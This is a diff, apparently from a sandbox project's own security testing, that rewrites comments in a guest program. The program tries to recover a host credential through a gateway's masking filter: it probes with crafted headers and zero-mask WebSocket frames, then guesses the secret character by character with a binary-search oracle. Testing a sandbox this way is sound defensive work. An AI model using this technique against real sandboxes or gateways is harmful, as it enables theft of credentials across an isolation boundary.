@@ -1,7 +1,8 @@
 /**
- * A program inside a sandbox that wants to know a credential that stays outside. It imports nothing of Craik.
- * `node guest.ts compare` prints all that it can see of each route; `node guest.ts recover PREFIX` guesses the credential
- * character by character, and prints what it has found out.
+ * A program in a sandbox that tries to find out a credential on the host. It imports nothing of Craik.
+ *
+ * - `node guest.ts compare` prints everything that it can see of each route.
+ * - `node guest.ts recover PREFIX` guesses the credential character by character, and prints what it found.
  */
 import { createHash } from 'node:crypto'
 import { readFileSync } from 'node:fs'
@@ -10,7 +11,7 @@ import { type IncomingMessage, request } from 'node:http'
 const GATEWAY = new URL(process.env.ANTHROPIC_BASE_URL ?? 'http://gateway.example')
 const WEB_SOCKET_KEY = 'AAAAAAAAAAAAAAAAAAAAAA=='
 
-/** What `recover` prints: as much of the credential as it knows, and how often it asked. */
+/** The output of `recover`: the known part of the credential, and the number of requests. */
 export interface Recovered {
   readonly known: string
   readonly asked: number
@@ -23,7 +24,7 @@ interface Seen {
 }
 
 interface Route {
-  /** It quotes nobody: the gateway answers it, or nothing can be said in it. */
+  /** No upstream repeats text in its answer: the gateway answers the route, or its requests contain no text. */
   readonly isOwn?: true
   readonly method?: string
   readonly path: string
@@ -83,7 +84,7 @@ async function ask(
     headers: {
       ...headers,
       'content-type': 'application/json',
-      // Nothing that a guest asks for turns the mask off.
+      // None of the headers that a guest can send turns off the mask.
       'accept-encoding': 'gzip, br',
       range: 'bytes=8-',
       te: 'trailers',
@@ -106,7 +107,7 @@ async function ask(
   }
 }
 
-/** One message over a WebSocket, and every byte that comes back until the answer is over. */
+/** Sends one message over a WebSocket, and returns all bytes until the answer is complete. */
 function askSocket(text: string): Promise<Seen> {
   const { promise, resolve, reject } = Promise.withResolvers<Seen>()
   const sent = request({
@@ -143,14 +144,14 @@ function askSocket(text: string): Promise<Seen> {
     const payload = Buffer.from(JSON.stringify(requested))
     const length = Buffer.alloc(8)
     length.writeUInt32BE(payload.length, 4)
-    // With a mask of zeros a message is its own bytes.
+    // With a mask of zeros, the masked message is the same as the original.
     socket.write(Buffer.concat([Buffer.from([0x81, 0xff]), length, Buffer.alloc(4), payload]))
   })
   sent.end()
   return promise
 }
 
-/** The time of day is the one thing that no two answers share. */
+/** Removes the date, the only header that is different in every answer. */
 function withoutDate(headers: readonly string[]): string[] {
   return headers.filter((_, at) => headers[at - (at % 2)]?.toLowerCase() !== 'date')
 }
@@ -158,7 +159,7 @@ function withoutDate(headers: readonly string[]): string[] {
 async function compare(): Promise<void> {
   const words = JSON.parse(readFileSync('words.json', 'utf8')) as Record<string, string>
   const say = async (what: string, pending: Promise<Seen>) => {
-    // A connection that breaks is something to be seen as well.
+    // A broken connection is a result too.
     const { status, headers, body } = await pending.catch((error: NodeJS.ErrnoException) => ({
       status: 0,
       headers: [],
@@ -191,7 +192,7 @@ async function compare(): Promise<void> {
 }
 
 const ALPHABET = [...'0123456789abcdef']
-/** As long as the pieces were that the filter compared. */
+/** The length of the pieces that the filter compared. */
 const PIECE_CHARS = 8
 
 async function recover(prefix: string, length: number): Promise<void> {
@@ -200,7 +201,7 @@ async function recover(prefix: string, length: number): Promise<void> {
     requestCount++
     const words = guesses.join(' ')
     const { status, headers, body } = await ask(ROUTES.anthropic!, `MODE=quote WORDS(${words})`)
-    // What was said comes back in it.
+    // The answer repeats the text of the request.
     const rest = body.toString('latin1').replaceAll(words, '')
     return JSON.stringify([status, withoutDate(headers).filter((each) => !/^\d+$/.test(each)), rest])
   }
@@ -214,7 +215,7 @@ async function recover(prefix: string, length: number): Promise<void> {
       const isIn = (await look(half.map((each) => ending + each))) !== usual
       left = isIn ? half : left.slice(left.length / 2)
     }
-    // The last one that is left has to be seen as well: otherwise nothing was.
+    // The answer must also change for the last remaining character. Otherwise the filter reacted to none of them.
     if ((await look([ending + left[0]])) === usual) break
     known += left[0]
   }
